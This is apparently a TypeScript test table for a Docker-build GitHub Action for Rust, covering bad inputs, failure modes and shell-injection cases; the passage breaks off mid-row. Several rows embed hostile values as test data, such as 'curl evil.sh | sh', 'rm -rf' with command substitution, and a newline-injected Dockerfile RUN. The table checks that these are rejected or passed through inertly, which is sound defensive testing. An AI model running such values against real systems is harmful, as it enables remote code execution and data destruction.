import fs from 'node:fs';
import path from 'node:path';
import { startCacheService, freePort, type CacheService } from '../../test/emulator/harness.mjs';
import { postEnv, ROOT, type Runner, type StepResult } from '../helpers/runner.js';
import { failedStep } from '../helpers/rawjson.js';
import { annotations, serveFiles, slowProxy, TOKEN, USER, writeTree, type GROUPS, type Outcome } from './observe.js';
import crypto from 'node:crypto';

// The table: one row per bad input, fault or secrecy scenario. Each row says what a user would want
// (`expected`, also the doc's column), how to provoke it (inputs, env, prepare), and what to assert
// beyond the checks every row gets (see reliability.test.ts). `check` returns extra observations.

export type Group = (typeof GROUPS)[number];

export interface Ctx {
  r: Runner;
  /** Fixtures and canaries live here (inside the runner's directory, removed with it). */
  scratch: string;
  /** A shell that ran any of our inputs would create this (or a sibling starting with `pwned`). */
  canary: string;
  /** A shell that ran any of our inputs would delete this. */
  victim: string;
  /** Extra runs of the case, scanned like the first. */
  more: Array<{ main: StepResult; post: StepResult }>;
}

export interface Prepared {
  inputs?: Record<string, string>;
  env?: Record<string, string>;
  /** Runs after main, before post (e.g. the cache service comes back). */
  between?(): Promise<void>;
  /** Assertions that need what prepare made; returns observations for the doc. */
  check?(o: Outcome): Promise<string[] | void> | string[] | void;
  cleanup?(): Promise<void>;
}

export type Expect =
  /** exit 1, exactly one ::error:: naming the input, the value and the fix; no docker command. */
  | { kind: 'bad-input'; input: string; value: string; fix: RegExp }
  /** exit 1 with exactly one ::error:: matching. */
  | { kind: 'fails'; error: RegExp }
  | { kind: 'ok' };

export interface Case {
  name: string;
  group: Group;
  expected: string;
  inputs?: Record<string, string>;
  env?: Record<string, string>;
  prepare?(c: Ctx): Promise<Prepared> | Prepared;
  expect: Expect;
  /** Each must match some warning of main or post. */
  warnings?: RegExp[];
  check?(o: Outcome, c: Ctx): Promise<string[] | void> | string[] | void;
}

/** Every row starts from this: a tag push of examples/hello with Docker Hub credentials. */
export const BASE: Record<string, string> = {
  image: 'org/hello',
  context: 'examples/hello',
  username: USER,
  password: TOKEN,
  // Deterministic on any host: whether binfmt handles arm64 depends on the machine (rows that want QEMU say so).
  qemu: 'false',
  // `gha` without the runner's cache variables warns on every run; the cache rows set them.
  cache: 'none',
};

const ARCH = process.arch === 'arm64' ? 'arm64' : 'amd64';
const sha256 = (b: Buffer | string) => crypto.createHash('sha256').update(b).digest('hex');
const buildOf = (o: Outcome) => o.calls.find((c) => c.argv[1] === 'buildx' && c.argv[2] === 'build' && c.argv.includes('--metadata-file'));
/** The element following `flag` each time it occurs in argv. */
const valuesOf = (argv: readonly string[] | undefined, flag: string) => (argv ?? []).flatMap((a, i) => (a === flag ? [argv?.[i + 1] ?? ''] : []));
const warningsOf = (o: Outcome) => [...annotations(o.main.stdout, 'warning'), ...annotations(o.post.stdout, 'warning')];

function bad(group: Group, name: string, inputs: Record<string, string>, input: string, value: string, fix: RegExp, says: string, more: Partial<Case> = {}): Case {
  return {
    name,
    group,
    inputs,
    expected: `exit 1 before any docker command; the error names \`${input}\`, ${JSON.stringify(value)}, and ${says}`,
    expect: { kind: 'bad-input', input, value, fix },
    ...more,
  };
}

/** A workspace fixture under scratch/ws, used as GITHUB_WORKSPACE. */
function workspace(c: Ctx, files: Record<string, string>): Record<string, string> {
  const ws = path.join(c.scratch, 'ws');
  writeTree(ws, files);
  return { GITHUB_WORKSPACE: ws };
}

const HELLO = path.join(ROOT, 'examples', 'hello');

// ---- cache service rows --------------------------------------------------------------------------------

const MOUNTS = { cache: 'gha', 'cache-mounts': 'true', platforms: 'linux/amd64,linux/arm64' };

async function withService(prep: (svc: CacheService) => Promise<Prepared | void>): Promise<Prepared> {
  const svc = await startCacheService();
  const extra = (await prep(svc)) ?? {};
  return {
    env: { ...svc.clientEnv, ...extra.env },
    inputs: extra.inputs,
    between: extra.between,
    check: extra.check,
    cleanup: async () => {
      await extra.cleanup?.();
      await svc.stop();
    },
  };
}

const statsLine = (s: Record<string, number>) =>
  `cache service calls: ${Object.entries(s)
    .filter(([k]) => k !== 'entries')
    .sort(([a], [b]) => a.localeCompare(b))
    .map(([k, v]) => `${k} ×${v}`)
    .join(', ') || 'none'}; entries: ${s.entries ?? 0}`;

// ---- buildx download rows ------------------------------------------------------------------------------

/** Bytes that are not the pinned buildx release (deterministic, so their checksum is too). */
const FAKE_BUILDX = Buffer.from('#!/bin/sh\necho "not buildx"\n'.repeat(64));

function leftovers(o: Outcome, bytes: Buffer): string[] {
  return o.tempFiles.filter((f) => f.bytes.length === bytes.length || f.bytes.equals(bytes)).map((f) => f.path);
}

/** @actions/tool-cache tries a download 3 times, 10–20 s apart, and logs each wait. */
function downloadAttempts(o: Outcome): string[] {
  const n = (o.main.stdout.match(/before trying again/g) ?? []).length + 1;
  expect(n).toBe(3);
  return [`download attempts: ${n} (tool-cache waits 10–20 s between them)`];
}

// ---- registry failures as BuildKit prints them ----------------------------------------------------------

// What buildx --progress=rawjson prints for each failure (as recorded from the real engine, see
// test/fixtures/rawjson/): the failing step with its log and error, then buildx's final ERROR line.
const PUSH_ERR = 'failed to push docker.io/org/hello:1.2.3: failed commit on ref "layer-sha256:2222": unexpected status from PUT request to https://registry-1.docker.io/v2/org/hello/blobs/uploads/abc: 500 Internal Server Error';
const PUSH_500 = failedStep({ name: 'exporting to image', error: PUSH_ERR, final: PUSH_ERR });

const DENIED = 'pull access denied, repository does not exist or may require authorization: server message: insufficient_scope: authorization failed';
const PULL_DENIED = failedStep({
  name: '[linux/arm64 internal] load metadata for docker.io/chainguard/statik:latest',
  error: DENIED,
  final: `chainguard/statik:latest: failed to resolve source metadata for docker.io/chainguard/statik:latest: ${DENIED}`,
});

const EXIT_101 = 'process "/bin/sh -c cargo build --release --locked --bin hello" did not complete successfully: exit code: 101';
const CARGO_FAIL = failedStep({
  name: '[linux/arm64 builder 4/4] RUN cargo build --release --locked --bin hello',
  log: ['   Compiling hello v0.1.0 (/volume/crates/hello)', 'error[E0425]: cannot find value `greting` in this scope', ' --> crates/hello/src/main.rs:3:20', 'error: could not compile `hello` (bin "hello") due to 1 previous error'],
  error: EXIT_101,
  final: EXIT_101,
});

// What image/scripts/muslrust-chef-check-static prints for a glibc binary (trimmed after the fix).
const STATIC_MSG = "muslrust-chef-check-static: /out/hello is dynamically linked (interpreter /lib64/ld-linux-x86-64.so.2): the image's runtime has no libc, so it cannot start. Build for the musl target with static linking.";
const EXIT_1 = EXIT_101.replace('101', '1');
const NOT_STATIC = failedStep({ name: '[linux/amd64 builder 4/4] RUN cargo build --release --locked --bin hello', log: ['/out/hello: copied', STATIC_MSG], error: EXIT_1, final: EXIT_1 });

const fail = (spec: Record<string, { code?: number; stderr: string; times?: number }>) => ({ FAKE_DOCKER_FAIL: JSON.stringify(spec) });
const DEBUG = { RUNNER_DEBUG: '1', ACTIONS_STEP_DEBUG: 'true' };

/** After the failed build, post still logged out and removed the builder (DOCKER_CONFIG: the generic check). */
function cleanedUp(o: Outcome): void {
  const after = o.calls.slice(o.calls.findIndex((c) => c.argv.includes('--metadata-file')) + 1).map((c) => c.argv.slice(1, 3).join(' '));
  expect(after).toEqual(expect.arrayContaining(['logout docker.io', 'buildx rm']));
}

export const CASES: Case[] = [
  // ---- Bad input --------------------------------------------------------------------------------------
  bad('Bad input', 'platforms: unsupported', { platforms: 'linux/386' }, 'platforms', 'linux/386', /Use linux\/amd64 and\/or linux\/arm64/, 'which platforms muslrust ships'),
  bad('Bad input', 'platforms: misspelled', { platforms: 'linux/amd64,linux/amr64' }, 'platforms', 'linux/amr64', /Use linux\/amd64 and\/or linux\/arm64/, 'which platforms muslrust ships'),
  bad('Bad input', 'platforms: 32-bit arm', { platforms: 'linux/arm/v7' }, 'platforms', 'linux/arm/v7', /did you mean arm64\?/, 'suggests arm64'),
  bad('Bad input', 'platforms: empty list', { platforms: ' , , ' }, 'platforms', ',', /Give at least one of linux\/amd64, linux\/arm64/, 'to give at least one or leave it empty'),
  bad('Bad input', 'MUSLRUST_PLATFORMS org variable misspelled', {}, 'platforms (from MUSLRUST_PLATFORMS)', 'linux/arm46', /Use linux\/amd64 and\/or linux\/arm64/, 'that it came from the variable', {
    env: { MUSLRUST_PLATFORMS: 'linux/amd64,linux/arm46' },
  }),
  bad('Bad input', 'bin: no such binary', { bin: 'helo' }, 'bin', 'helo', /Use one of: hello \(package hello in crates\/hello\)/, 'lists the binaries'),
  bad('Bad input', 'workspace without a binary', { context: 'lib-only' }, 'context', 'lib-only', /Add a binary crate/, 'to add a binary', {
    prepare: (c) => ({
      env: workspace(c, {
        'lib-only/Cargo.toml': '[package]\nname = "lib-only"\nversion = "0.1.0"\nedition = "2021"\n',
        'lib-only/Cargo.lock': 'version = 4\n\n[[package]]\nname = "lib-only"\nversion = "0.1.0"\n',
        'lib-only/src/lib.rs': 'pub fn f() {}\n',
      }),
    }),
  }),
  bad('Bad input', 'no Cargo.lock', { context: 'no-lock' }, 'context', 'no-lock', /cargo generate-lockfile/, 'how to generate and commit Cargo.lock', {
    prepare: (c) => {
      const env = workspace(c, {});
      fs.cpSync(HELLO, path.join(c.scratch, 'ws', 'no-lock'), { recursive: true, filter: (p) => !p.endsWith('Cargo.lock') && !p.includes('/target') });
      return { env };
    },
  }),
  bad('Bad input', 'context without Cargo.toml', { context: 'docs' }, 'context', 'docs', /directory of your Cargo workspace/, 'to point it at the Cargo workspace'),
  bad('Bad input', 'context outside the workspace', { context: '../..' }, 'context', '../..', /inside the repository checkout/, 'to stay inside the checkout'),
  bad('Bad input', 'context: absolute path elsewhere', { context: '/etc' }, 'context', '/etc', /inside the repository checkout/, 'to stay inside the checkout'),
  bad('Bad input', 'context: a file, not a directory', { context: 'README.md' }, 'context', 'README.md', /point `context` at the Cargo workspace directory/, 'to name a directory'),
  bad('Bad input', 'dockerfile does not exist', { dockerfile: 'docker/Dockerfile.release' }, 'dockerfile', 'docker/Dockerfile.release', /relative to the workspace .*or leave it empty/, 'the path it is relative to'),
  bad('Bad input', 'image: upper case', { image: 'Org/Hello' }, 'image', 'Org/Hello', /Use "org\/hello"/, 'the lower-case name'),
  bad('Bad input', 'image: space', { image: 'org/hello world' }, 'image', 'org/hello world', /e\.g\. org\/app/, 'what a valid name looks like'),
  bad('Bad input', 'image: bad registry host', { image: 'registry_1.example.com/org/hello' }, 'image', 'registry_1.example.com/org/hello', /invalid registry host .*e\.g\. org\/app/, 'which host is invalid'),
  bad('Bad input', 'image: tag in image', { image: 'org/hello:1.0' }, 'image', 'org/hello:1.0', /put tags in the `tags` input/, 'to use `tags`'),
  bad('Bad input', 'image: digest in image', { image: `org/hello@sha256:${'a'.repeat(64)}` }, 'image', `org/hello@sha256:${'a'.repeat(64)}`, /without tag/, 'what a valid name looks like'),
  bad('Bad input', 'image: empty', { image: '' }, 'image', '', /Name the image to build/, 'how to name one'),
  bad('Bad input', 'boolean: dry-run typo', { 'dry-run': 'ture' }, 'dry-run', 'ture', /Use true or false/, 'true or false (a typo never means false)'),
  bad('Bad input', 'boolean: sbom: yes', { sbom: 'yes' }, 'sbom', 'yes', /Use true or false/, 'true or false'),
  bad('Bad input', 'boolean: cache-mounts: 1', { 'cache-mounts': '1' }, 'cache-mounts', '1', /Use true or false/, 'true or false'),
  bad('Bad input', 'enum: cache', { cache: 's3' }, 'cache', 's3', /Use one of: gha, registry, local, none/, 'the accepted values'),
  bad('Bad input', 'enum: push', { push: 'always' }, 'push', 'always', /Use one of: auto, true, false/, 'the accepted values'),
  bad('Bad input', 'enum: driver', { driver: 'kubernetes' }, 'driver', 'kubernetes', /Use one of: docker-container, docker/, 'the accepted values'),
  bad('Bad input', 'enum: provenance', { provenance: 'full' }, 'provenance', 'full', /Use one of: false, true, min, max/, 'the accepted values'),
  bad('Bad input', 'enum: qemu', { qemu: 'sometimes' }, 'qemu', 'sometimes', /Use one of: auto, true, false/, 'the accepted values'),
  bad('Bad input', 'enum: cache-mode', { 'cache-mode': 'all' }, 'cache-mode', 'all', /Use one of: min, max/, 'the accepted values'),
  bad('Bad input', 'enum: mode', { mode: 'merged' }, 'mode', 'merged', /Use one of: build, merge/, 'the accepted values'),
  bad('Bad input', 'tags: semver rule without pattern', { tags: 'type=semver' }, 'tags', 'type=semver', /e\.g\. type=semver,pattern=\{\{version\}\}/, 'an example rule'),
  bad('Bad input', 'tags: misspelled rule type', { tags: 'type=semvr,pattern={{version}}' }, 'tags', 'type=semvr,pattern={{version}}', /Did you mean 'semver'\?/, 'the type it probably meant'),
  bad('Bad input', 'tags: misspelled key', { tags: 'type=semver,patern={{version}}' }, 'tags', 'type=semver,patern={{version}}', /Did you mean 'pattern'\?/, 'the key it probably meant'),
  bad('Bad input', 'tags: unclosed quote', { tags: 'type=raw,"value=a,b' }, 'tags', 'type=raw,"value=a,b', /Close the field with a double quote/, 'how to close it'),
  bad('Bad input', 'flavor: latest=maybe', { flavor: 'latest=maybe' }, 'flavor', 'latest=maybe', /Use latest=auto, latest=true or latest=false/, 'the accepted values'),
  bad('Bad input', 'flavor: misspelled key', { flavor: 'sufix=-musl' }, 'flavor', 'sufix=-musl', /Did you mean 'suffix'\?/, 'the key it probably meant'),
  bad('Bad input', 'flavor: stray onlatest', { flavor: 'onlatest=true' }, 'flavor', 'onlatest=true', /suffix=-musl,onlatest=true/, 'where onlatest goes'),
  bad('Bad input', 'mode: merge without digests', { mode: 'merge' }, 'digests', '', /Pass the `digest` output of every matrix leg/, 'to pass the legs\' digests'),
  bad('Bad input', 'digests: not a digest', { mode: 'merge', digests: 'sha256:1234' }, 'digests', 'sha256:1234', /sha256:<64 hex>/, 'the digest format'),
  bad('Bad input', 'labels: line without =', { labels: 'org.opencontainers.image.title' }, 'labels', 'org.opencontainers.image.title', /one KEY=VALUE per line/, 'the KEY=VALUE format'),
  bad('Bad input', 'registry: a URL', { registry: 'https://ghcr.io' }, 'registry', 'https://ghcr.io', /no scheme, no path/, 'to give a host only'),
  bad('Bad input', 'username without password', { password: '' }, 'password', '', /Set both username and password/, 'to set both'),
  bad('Bad input', 'push to Docker Hub without credentials', { username: '', password: '' }, 'username', '', /Set username and password .*or set push: false/, 'how to log in or not push'),
  bad('Bad input', 'tags: no tag for this event', { tags: 'type=ref,event=pr' }, 'tags', 'type=ref,event=pr', /Add a rule that fires on this ref/, 'to add a rule or not push'),
  bad('Bad input', 'push-by-digest with two images', { 'push-by-digest': 'true', image: 'org/hello\norg/hello-mirror', platforms: 'linux/arm64' }, 'push-by-digest', 'true', /list the other names in the merge step/, 'where the other names go'),
  bad('Bad input', 'buildx-version older than 0.21', { 'buildx-version': 'v0.20.0' }, 'buildx-version', 'v0.20.0', /0\.21\.0 or newer/, 'the minimum (checked before docker runs)', {
    // The runner already has that old buildx: it must not be accepted "as requested".
    env: { FAKE_BUILDX_VERSION: 'v0.20.0' },
  }),

  // ---- Shell metacharacters and newlines ------------------------------------------------------------------
  {
    name: 'build-args: $( ), ;, &&, backticks in a value',
    group: 'Shell metacharacters and newlines',
    expected: 'builds; each line reaches docker as exactly one argv element `KEY=<value>` after `--build-arg`; no shell runs it',
    prepare: (c) => {
      const evil = `x $(touch ${c.canary}) ; rm -rf ${c.victim} && \`touch ${c.canary}2\``;
      return {
        inputs: { 'build-args': `EVIL=${evil}\nSECOND=two words; "quoted" 'single'` },
        check: (o) => {
          const args = valuesOf(buildOf(o)?.argv, '--build-arg');
          expect(args).toEqual([`EVIL=${evil}`, `SECOND=two words; "quoted" 'single'`]);
          return args.map((a) => `argv element: ${a}`);
        },
      };
    },
    expect: { kind: 'ok' },
  },
  {
    name: 'labels: ;, $( ), quotes in a value',
    group: 'Shell metacharacters and newlines',
    expected: 'builds; the label reaches docker as one argv element after `--label`',
    prepare: (c) => {
      const value = `a;b $(touch ${c.canary}) "double" 'single' \`id\``;
      return {
        inputs: { labels: `org.example.note=${value}` },
        check: (o) => {
          const labels = valuesOf(buildOf(o)?.argv, '--label').filter((l) => l.startsWith('org.example.note='));
          expect(labels).toEqual([`org.example.note=${value}`]);
          return [`argv element: ${labels[0]}`];
        },
      };
    },
    expect: { kind: 'ok' },
  },
  {
    name: 'image: a newline lists two images, both validated and tagged',
    group: 'Shell metacharacters and newlines',
    expected: 'builds and tags both names; login only to the first registry (the second is a local one)',
    inputs: { image: 'org/hello\nlocalhost:5000/hello' },
    expect: { kind: 'ok' },
    check: (o) => {
      const tags = valuesOf(buildOf(o)?.argv, '--tag');
      expect(tags).toEqual(expect.arrayContaining(['org/hello:1.2.3', 'localhost:5000/hello:1.2.3']));
      return [`--tag values: ${tags.filter((t) => t.endsWith(':1.2.3')).join(', ')} (+ ${tags.length - 2} more)`];
    },
  },
  bad('Shell metacharacters and newlines', 'image: a newline, second name invalid', { image: 'org/hello\nOrg/Other' }, 'image', 'Org/Other', /Use "org\/other"/, 'the lower-case name'),
  bad('Shell metacharacters and newlines', 'image: shell metacharacters', { image: 'org/hello;touch pwned' }, 'image', 'org/hello;touch pwned', /e\.g\. org\/app/, 'what a valid name looks like'),
  bad('Shell metacharacters and newlines', 'build-args: a newline smuggling a flag', { 'build-args': 'A=1\n--network=host' }, 'build-args', '--network=host', /one KEY=VALUE per line/, 'the KEY=VALUE format'),
  bad('Shell metacharacters and newlines', 'labels: $( ) in a key', { labels: '$(touch pwned)=x' }, 'labels', '$(touch pwned)=x', /one KEY=VALUE per line/, 'the KEY=VALUE format'),
  bad('Shell metacharacters and newlines', 'runtime-image: a newline injecting a Dockerfile instruction', { 'runtime-image': 'chainguard/static:latest\nRUN touch /tmp/pwned' }, 'runtime-image', 'chainguard/static:latest\nRUN touch /tmp/pwned', /e\.g\. chainguard\/static:latest/, 'what an image reference looks like'),
  bad('Shell metacharacters and newlines', 'builder-image: extra words', { 'builder-image': 'org/muslrust-chef:1.98 AS chef' }, 'builder-image', 'org/muslrust-chef:1.98 AS chef', /docs\/builder-image\.md/, 'what an image reference looks like'),
  bad('Shell metacharacters and newlines', 'context: shell metacharacters', { context: 'examples/hello; touch pwned' }, 'context', 'examples/hello; touch pwned', /point `context` at the Cargo workspace directory/, 'to name a directory'),
  bad('Shell metacharacters and newlines', 'profile: shell metacharacters', { profile: 'release && id' }, 'profile', 'release && id', /Use release \(default\), dev, or a custom/, 'the profile names cargo accepts'),
  bad('Shell metacharacters and newlines', 'features: shell metacharacters', { features: 'tls;touch pwned' }, 'features', 'tls;touch pwned', /separated by commas or newlines/, 'the list format'),
  bad('Shell metacharacters and newlines', 'bin: shell metacharacters', { bin: 'hello;id' }, 'bin', 'hello;id', /\[\[bin\]\] target/, 'what a binary name is'),
  bad('Shell metacharacters and newlines', 'buildx-version: shell metacharacters', { 'buildx-version': 'latest; curl evil.sh | sh' }, 'buildx-version', 'latest; curl evil.sh | sh', /Use e\.g\. v0\.\d+\.\d+, or leave it empty/, 'a version example'),
  bad('Shell metacharacters and newlines', 'registry: shell metacharacters', { registry: 'ghcr.io;id' }, 'registry', 'ghcr.io;id', /no scheme, no path/, 'what a host looks like'),
  {
    name: 'tags: raw value with $( ), ; and a space',
    group: 'Shell metacharacters and newlines',
    expected: 'builds; the value is sanitised into a valid tag the way docker/metadata-action does, one argv element',
    inputs: { tags: 'type=raw,value=v1 $(id);x' },
    expect: { kind: 'ok' },
    check: (o) => {
      const tags = valuesOf(buildOf(o)?.argv, '--tag');
      expect(tags).toEqual(['org/hello:v1-id-x']);
      return [`--tag values: ${tags.join(', ')}`];
    },
  },
  {
    name: 'username: shell metacharacters',
    group: 'Shell metacharacters and newlines',
    expected: 'one argv element after `--username`; no shell runs it',
    prepare: (c) => ({
      inputs: { username: `bot$(touch ${c.canary})` },
      check: (o) => {
        const login = o.calls.find((k) => k.argv[1] === 'login');
        expect(valuesOf(login?.argv, '--username')).toEqual([`bot$(touch ${c.canary})`]);
        return [`--username value: ${valuesOf(login?.argv, '--username')[0]}`];
      },
    }),
    expect: { kind: 'ok' },
  },
  {
    name: 'digests: one per line (merge)',
    group: 'Shell metacharacters and newlines',
    expected: 'each digest is one `name@digest` argv element of `imagetools create`',
    inputs: { mode: 'merge', digests: `sha256:${'b'.repeat(64)}\nsha256:${'c'.repeat(64)}` },
    expect: { kind: 'ok' },
    check: (o) => {
      const create = o.calls.find((k) => k.argv.slice(1, 4).join(' ') === 'buildx imagetools create');
      const refs = (create?.argv ?? []).filter((a) => a.includes('@sha256:'));
      expect(refs).toEqual([`org/hello@sha256:${'b'.repeat(64)}`, `org/hello@sha256:${'c'.repeat(64)}`]);
      return [`imagetools create sources: ${refs.length} elements`];
    },
  },

  // ---- Faults ---------------------------------------------------------------------------------------------
  {
    name: 'Docker daemon unreachable (QEMU setup is the first command)',
    group: 'Faults',
    expected: 'exit 1 with docker\'s own "Cannot connect to the Docker daemon" and what to do; post cleans up',
    inputs: { qemu: 'true' },
    env: { FAKE_DOCKER_DAEMON: 'down' },
    expect: { kind: 'fails', error: /Cannot connect to the Docker daemon at unix:\/\/\/var\/run\/docker\.sock\. Is the docker daemon running\?.*runner with Docker/ },
  },
  {
    name: 'Docker daemon unreachable (builder creation)',
    group: 'Faults',
    expected: 'exit 1 with docker\'s own "Cannot connect to the Docker daemon" and what to do',
    env: { FAKE_DOCKER_DAEMON: 'down' },
    expect: { kind: 'fails', error: /creating the buildx builder.*Cannot connect to the Docker daemon.*runner with Docker/ },
  },
  {
    name: 'docker CLI not installed',
    group: 'Faults',
    expected: 'exit 1 saying docker is not on PATH',
    prepare: (c) => {
      const empty = path.join(c.scratch, 'empty-bin');
      fs.mkdirSync(empty, { recursive: true });
      return { env: { PATH: empty } };
    },
    expect: { kind: 'fails', error: /Is the docker CLI installed on this runner\?/ },
  },
  {
    name: 'buildx missing, no network',
    group: 'Faults',
    expected: 'exit 1 naming the minimum buildx 0.21 and how to provide it (after tool-cache\'s 3 download attempts)',
    prepare: async () => ({ env: { FAKE_BUILDX_VERSION: 'none', MUSLRUST_CHEF_BUILDX_BASE_URL: `http://127.0.0.1:${await freePort()}` } }),
    check: downloadAttempts,
    expect: { kind: 'fails', error: /buildx \(none\) is not usable \(need >= 0\.21\.0\).*ECONNREFUSED.*Install buildx >= 0\.21\.0/ },
  },
  {
    name: 'buildx too old (0.19.3), no network',
    group: 'Faults',
    expected: 'exit 1 naming the version found, the minimum 0.21 and how to provide it',
    prepare: async () => ({ env: { FAKE_BUILDX_VERSION: 'v0.19.3', MUSLRUST_CHEF_BUILDX_BASE_URL: `http://127.0.0.1:${await freePort()}` } }),
    check: downloadAttempts,
    expect: { kind: 'fails', error: /buildx 0\.19\.3 is not usable \(need >= 0\.21\.0\).*Install buildx >= 0\.21\.0/ },
  },
  {
    name: 'buildx download with a wrong checksum',
    group: 'Faults',
    expected: 'exit 1 with both checksums; the downloaded file is deleted (nothing of it left in RUNNER_TEMP)',
    inputs: { 'buildx-version': 'v0.30.1' },
    prepare: async () => {
      const srv = await serveFiles({ [`/v0.30.1/buildx-v0.30.1.linux-${ARCH}`]: FAKE_BUILDX });
      return {
        env: { FAKE_BUILDX_VERSION: 'v0.20.0', MUSLRUST_CHEF_BUILDX_BASE_URL: srv.url },
        check: (o) => {
          expect(srv.hits).toEqual([`/v0.30.1/buildx-v0.30.1.linux-${ARCH}`]);
          expect(leftovers(o, FAKE_BUILDX)).toEqual([]);
          return [`download requests: ${srv.hits.length}; files in RUNNER_TEMP with the downloaded bytes or size: none`];
        },
        cleanup: () => srv.close(),
      };
    },
    expect: { kind: 'fails', error: new RegExp(`Checksum mismatch .*got ${sha256(FAKE_BUILDX)}\\. The download was removed`) },
  },
  {
    name: 'buildx download verified against the release checksums.txt (control)',
    group: 'Faults',
    expected: 'builds with the downloaded buildx, installed in the job\'s DOCKER_CONFIG only; no download left behind',
    inputs: { 'buildx-version': 'v0.29.1' },
    prepare: async () => {
      const asset = `buildx-v0.29.1.linux-${ARCH}`;
      const srv = await serveFiles({ [`/v0.29.1/${asset}`]: FAKE_BUILDX, '/v0.29.1/checksums.txt': `${sha256('other')} *buildx-v0.29.1.darwin-arm64\n${sha256(FAKE_BUILDX)} *${asset}\n` });
      return {
        env: { FAKE_BUILDX_VERSION: 'v0.19.3', MUSLRUST_CHEF_BUILDX_BASE_URL: srv.url },
        check: (o) => {
          expect(o.main.summary).toContain('0.29.1 (installed, checksum verified)');
          expect(leftovers(o, FAKE_BUILDX)).toEqual([]);
          return [`summary: buildx 0.29.1 (installed, checksum verified); download requests: ${srv.hits.length}; leftovers: none`];
        },
        cleanup: () => srv.close(),
      };
    },
    expect: { kind: 'ok' },
  },
  {
    name: 'buildx download without a checksums.txt to verify it',
    group: 'Faults',
    expected: 'exit 1 saying the download cannot be verified; the unverified download is deleted',
    inputs: { 'buildx-version': 'v0.29.1' },
    prepare: async () => {
      const srv = await serveFiles({ [`/v0.29.1/buildx-v0.29.1.linux-${ARCH}`]: FAKE_BUILDX });
      return {
        env: { FAKE_BUILDX_VERSION: 'v0.19.3', MUSLRUST_CHEF_BUILDX_BASE_URL: srv.url },
        check: (o) => {
          expect(leftovers(o, FAKE_BUILDX)).toEqual([]);
          return [`requests: ${srv.hits.join(', ')}; files in RUNNER_TEMP with the downloaded bytes or size: none`];
        },
        cleanup: () => srv.close(),
      };
    },
    expect: { kind: 'fails', error: /^Cannot verify buildx 0\.29\.1: downloading .*checksums\.txt failed: .*404/ },
  },
  {
    name: 'docker login fails once (registry timeout), then succeeds',
    group: 'Faults',
    expected: 'a warning, one retry after 2 s, then the build; the token on stdin both times',
    env: fail({ login: { times: 1, stderr: 'Error response from daemon: Get "https://registry-1.docker.io/v2/": net/http: request canceled while waiting for connection (Client.Timeout exceeded while awaiting headers)\n' } }),
    expect: { kind: 'ok' },
    warnings: [/docker login to docker\.io failed .*retrying in 2 s/],
    check: (o) => {
      const logins = o.calls.filter((c) => c.argv[1] === 'login');
      expect(logins.map((c) => c.stdin)).toEqual([TOKEN, TOKEN]);
      return [`login attempts: ${logins.length}`];
    },
  },
  {
    name: 'docker login fails every time (registry 503), debug logging on',
    group: 'Faults',
    expected: 'exit 1 after 3 attempts (2 s, 5 s apart) with docker\'s reason, never the token; post still cleans up',
    env: { ...DEBUG, ...fail({ login: { stderr: 'Error response from daemon: Get "https://registry-1.docker.io/v2/": received unexpected HTTP status: 503 Service Unavailable\n' } }) },
    expect: { kind: 'fails', error: /login to docker\.io failed after 3 attempts.*503 Service Unavailable/ },
    check: (o) => [`login attempts: ${o.calls.filter((c) => c.argv[1] === 'login').length}`],
  },
  {
    name: 'docker login rejected (wrong token)',
    group: 'Faults',
    expected: 'exit 1 at once (credentials do not get better by retrying), naming the registry, never the token',
    env: fail({ login: { stderr: 'Error response from daemon: Get "https://registry-1.docker.io/v2/": unauthorized: incorrect username or password\n' } }),
    expect: { kind: 'fails', error: /login to docker\.io failed after 1 attempt.*incorrect username or password/ },
    check: (o) => {
      const n = o.calls.filter((c) => c.argv[1] === 'login').length;
      expect(n).toBe(1);
      return [`login attempts: ${n}`];
    },
  },
  {
    name: 'push fails mid-way (registry 500 on a layer)',
    group: 'Faults',
    expected: 'exit 1 naming the platforms and the refs being pushed and the registry\'s answer; post logs out and removes the builder',
    inputs: { platforms: 'linux/amd64,linux/arm64' },
    env: fail({ 'buildx build': { stderr: PUSH_500 } }),
    expect: { kind: 'fails', error: /^Pushing org\/hello:1\.2\.3, .*org\/hello:latest for linux\/amd64, linux\/arm64 failed: .*500 Internal Server Error/ },
    check: cleanedUp,
  },
  {
    name: 'push by digest fails (one matrix leg)',
    group: 'Faults',
    expected: 'exit 1 naming the leg\'s platform and the image pushed by digest (no tags are pushed there)',
    inputs: { platforms: 'linux/arm64', 'push-by-digest': 'true' },
    env: fail({ 'buildx build': { stderr: PUSH_500 } }),
    expect: { kind: 'fails', error: /^Pushing org\/hello \(by digest\) for linux\/arm64 failed: .*500 Internal Server Error/ },
    check: cleanedUp,
  },
  {
    name: 'base image pull denied',
    group: 'Faults',
    expected: 'exit 1 calling it a build failure (not a push failure), with the platform and the registry\'s reason',
    inputs: { 'runtime-image': 'chainguard/statik:latest' },
    env: fail({ 'buildx build': { stderr: PULL_DENIED } }),
    expect: { kind: 'fails', error: /^docker buildx build for linux\/arm64 failed in the setup stage \(\[linux\/arm64 internal\] load metadata for docker\.io\/chainguard\/statik:latest\): .*pull access denied/ },
    check: cleanedUp,
  },
  {
    name: 'build fails (cargo error on arm64), cache mounts on',
    group: 'Faults',
    expected: "exit 1 naming the failing stage, the platform and cargo's own error lines (not the exit-code wrapper of BuildKit); post logs out, removes the builder, saves no cache",
    inputs: MOUNTS,
    prepare: () =>
      withService(async (svc) => ({
        env: fail({ '--metadata-file': { stderr: CARGO_FAIL } }),
        check: async () => {
          const s = await svc.stats();
          expect(Object.keys(s).filter((k) => k.startsWith('CreateCacheEntry'))).toEqual([]);
          return [statsLine(s)];
        },
      })),
    expect: { kind: 'fails', error: /^cargo failed in the build stage for linux\/arm64: error\[E0425\]: cannot find value `greting` in this scope\n[\s\S]*could not compile `hello`/ },
    check: (o) => {
      cleanedUp(o);
      expect(o.post.stdout).toContain('Not saving the Cargo cache mounts: the build did not succeed.');
      return ['post: "Not saving the Cargo cache mounts: the build did not succeed."'];
    },
  },
  {
    name: 'static check fails (dynamically linked binary)',
    group: 'Faults',
    expected: 'exit 1 saying the binary is dynamically linked, for which platform',
    env: fail({ 'buildx build': { stderr: NOT_STATIC } }),
    expect: { kind: 'fails', error: /^Static check failed for linux\/amd64: muslrust-chef-check-static: \/out\/hello is dynamically linked/ },
  },
  {
    name: 'cache service up: mounts saved, then restored exactly (control, debug logging on)',
    group: 'Faults',
    expected: 'run 1 saves the Cargo cache mounts in post; run 2 restores them (cache-hit=true) and skips the save',
    inputs: MOUNTS,
    env: DEBUG,
    prepare: (c) =>
      withService(async (svc) => ({
        check: async (o) => {
          const first = await svc.stats();
